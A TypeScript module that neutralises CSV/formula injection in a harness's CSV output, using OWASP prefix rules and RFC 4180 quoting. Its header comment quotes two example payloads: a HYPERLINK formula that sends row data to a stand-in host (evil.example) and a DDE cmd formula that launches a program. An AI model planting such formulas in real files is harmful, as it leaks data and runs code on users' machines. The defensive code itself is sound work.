/**
 * One CSV cell, for every CSV file the harness writes. Cells hold the target's ids, names and
 * error details, and spreadsheets evaluate a cell that starts like a formula:
 * `=HYPERLINK("http://evil.example/?leak="&A2,"x")` sends the row away, `=cmd|' /C calc'!A0`
 * (DDE) runs a program. OWASP's CSV injection guidance: a cell starting with `=`, `+`, `-`, `@`,
 * tab (0x09) or carriage return (0x0D) gets a leading `'`, which Excel and LibreOffice read as
 * "this is text" and do not show in the cell.
 */

/**
 * Formula triggers at the start of a cell: OWASP's six, and their fullwidth forms (U+FF1D,
 * U+FF0B, U+FF0D, U+FF20), which spreadsheets with East Asian input settings fold to ASCII
 * before parsing [INF: a precaution; the prefix costs nothing on text].
 */
const FORMULA_START = /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/;

/** RFC 4180 §2: a field holding a comma, quote, CR or LF is quoted, its quotes doubled. */
const NEEDS_QUOTES = /[",\r\n]/;

/**
 * The cell as written to the file: text that could start a formula is prefixed with `'`, then
 * quoted when RFC 4180 asks for it. Numbers the harness computed itself (step numbers,
 * durations) are written as they are: a spreadsheet should read them as numbers, and a number
 * cannot carry a formula — `-5` is minus five, not an expression referring to anything. Text
 * that only looks numeric (a target id "-1") is the target's and is neutralised like any text.
 */
export function csvCell(value: string | number | null | undefined): string {
  if (value === null || value === undefined) return '';
  const text = typeof value === 'number' ? (Number.isFinite(value) ? String(value) : neutralise(String(value))) : neutralise(value);
  return NEEDS_QUOTES.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

function neutralise(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/** One CSV record, CRLF-terminated (RFC 4180 §2). */
export function csvRecord(fields: readonly (string | number | null | undefined)[]): string {
  return `${fields.map(csvCell).join(',')}\r\n`;
}
